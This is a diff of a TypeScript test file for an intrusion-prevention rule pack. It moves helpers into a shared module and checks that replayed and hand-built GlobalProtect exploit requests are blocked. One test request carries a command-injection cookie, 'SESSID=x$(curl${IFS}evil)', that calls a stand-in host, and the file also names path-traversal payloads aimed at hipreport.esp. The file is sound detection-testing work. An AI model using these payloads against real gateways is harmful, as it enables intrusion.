@@ -17,51 +17,32 @@ import { dirname, join } from "node:path";
 import { fileURLToPath } from "node:url";
 import { test } from "uvu";
 import * as assert from "uvu/assert";
-import { TcpConversation } from "../../../../engine/ips.testing.ts";
 import { packRig, replay } from "../../testing.ts";
-import { clientBytes, folderProblems } from "../proxylogon/capture.testing.ts";
+import { blockedCaptureTests, cutCapturesTest, type CutOptions, folderTest, sendCut } from "../../http.testing.ts";
 
 const here = dirname(fileURLToPath(import.meta.url));
 const pcap = (name: string): string => join(here, "traffic", `${name}.pcap`);
 const rig = packRig();
 
-function sendCut(req: Uint8Array | string, size: number, reverse = false): void {
-  rig.reset();
-  const c = new TcpConversation(rig, { dport: 8080 });
-  c.handshake();
-  const cuts: number[] = [];
-  for (let i = size; i < req.length; i += size) cuts.push(i);
-  const order = [...Array(cuts.length + 1).keys()];
-  if (reverse) order.reverse();
-  c.sendClientPieces(0, req, cuts, order);
-}
+const CUT: CutOptions = { dport: 8080, keepOpen: true };
+/** `sendCut` on this rig, the flow left open (no end-of-flow flush before the assertions). */
+const cut = (req: Uint8Array | string, size: number, reverse = false): void => sendCut(rig, req, size, reverse, CUT);
 
-test("metadata and rules agree and load", () => {
-  assert.equal(folderProblems(here), []);
-});
+folderTest(here);
 
-for (const [name, what] of [
-  ["hipreport-cmd", "the published hipreport.esp exploit"],
-  ["login-file-keepalive", "watchTowr's ./../ check on login.esp after a benign request"],
-  ["encoded-cookie", "the traversal percent-encoded in a lower-case cookie name"],
-]) {
-  test(`${what} is blocked (captured curl)`, () => {
-    rig.reset();
-    replay(rig, pcap(name));
-    assert.ok(rig.blockedBy(7103600), JSON.stringify(rig.alerts));
-  });
-}
+blockedCaptureTests(rig, here, [
+  ["hipreport-cmd", 7103600, "the published hipreport.esp exploit"],
+  ["login-file-keepalive", 7103600, "watchTowr's ./../ check on login.esp after a benign request"],
+  ["encoded-cookie", 7103600, "the traversal percent-encoded in a lower-case cookie name"],
+], (_name, _sid, what) => `${what} is blocked (captured curl)`);
 
-test("the published request in 1-byte segments, and reversed 6-byte pieces, is still blocked", () => {
-  const req = clientBytes(pcap("hipreport-cmd"));
-  sendCut(req, 1);
-  assert.ok(rig.blockedBy(7103600));
-  sendCut(req, 6, true);
-  assert.ok(rig.blockedBy(7103600));
-});
+cutCapturesTest(rig, here, "the published request in 1-byte segments, and reversed 6-byte pieces, is still blocked", [
+  { capture: "hipreport-cmd", sid: 7103600, size: 1 },
+  { capture: "hipreport-cmd", sid: 7103600, size: 6, reverse: true },
+], CUT);
 
 test("shell syntax in SESSID without a traversal is blocked by the command rule", () => {
-  sendCut("POST /ssl-vpn/hipreport.esp HTTP/1.1\r\nHost: gp\r\nCookie: lang=en; SESSID=x$(curl${IFS}evil)\r\nContent-Length: 11\r\n\r\nuser=global", 2);
+  cut("POST /ssl-vpn/hipreport.esp HTTP/1.1\r\nHost: gp\r\nCookie: lang=en; SESSID=x$(curl${IFS}evil)\r\nContent-Length: 11\r\n\r\nuser=global", 2);
   assert.ok(rig.blockedBy(7103601), JSON.stringify(rig.alerts));
 });
 
@@ -69,7 +50,7 @@ test("benign GlobalProtect traffic (and PHPSESSID with dots elsewhere) raises no
   rig.reset();
   replay(rig, pcap("benign-gp"));
   assert.equal(rig.alertSids(), []);
-  sendCut("GET /global-protect/portal/css/login.css HTTP/1.1\r\nHost: gp\r\nCookie: PHPSESSID=../x; SESSID=Zm9v/+YmFy==\r\n\r\n", 50);
+  cut("GET /global-protect/portal/css/login.css HTTP/1.1\r\nHost: gp\r\nCookie: PHPSESSID=../x; SESSID=Zm9v/+YmFy==\r\n\r\n", 50);
   assert.equal(rig.alertSids(), []);
 });
 
